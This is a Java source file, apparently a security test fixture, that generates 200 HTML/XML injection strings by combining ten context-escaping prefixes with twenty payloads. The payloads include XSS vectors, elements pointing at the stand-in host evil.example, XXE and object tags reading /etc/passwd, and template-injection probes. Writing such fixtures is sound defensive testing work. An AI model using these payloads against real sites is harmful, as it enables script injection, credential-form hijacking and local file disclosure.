package org.gardefou.summary;

import java.util.ArrayList;
import java.util.List;

/** Two hundred strings that try to become markup: ten ways in, twenty things to do there. */
final class Attacks {
  private static final List<String> WAYS =
      List.of(
          "%s",
          "\">%s",
          "'>%s",
          "</style>%s",
          "</title>%s",
          "--><!-- %s -->",
          "]]>%s",
          "</script>%s",
          "\\\">%s<!--",
          "</td></tr></table>%s");

  private static final List<String> DEEDS =
      List.of(
          "<script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<svg onload=alert(1)/>",
          "<svg><script>alert(1)</script></svg>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<iframe src=\"//evil.example\"></iframe>",
          "<object data=\"file:///etc/passwd\"></object>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>*{display:none}</style>",
          "<meta http-equiv=refresh content=0;url=//evil.example>",
          "<base href=//evil.example>",
          "<form action=//evil.example><input name=x></form>",
          "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
          "<details open ontoggle=alert(1)>",
          "<body onload=alert(1)>",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
          "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
          "`onmouseover=alert(1) x=`",
          "<?xml-stylesheet href=\"http://evil.example\"?>${7*7}{{7*7}}\u0000\u202E<b>");

  private Attacks() {}

  static List<String> all() {
    List<String> all = new ArrayList<>();
    for (String way : WAYS) {
      for (String deed : DEEDS) {
        all.add(way.replace("%s", deed));
      }
    }
    return all;
  }
}
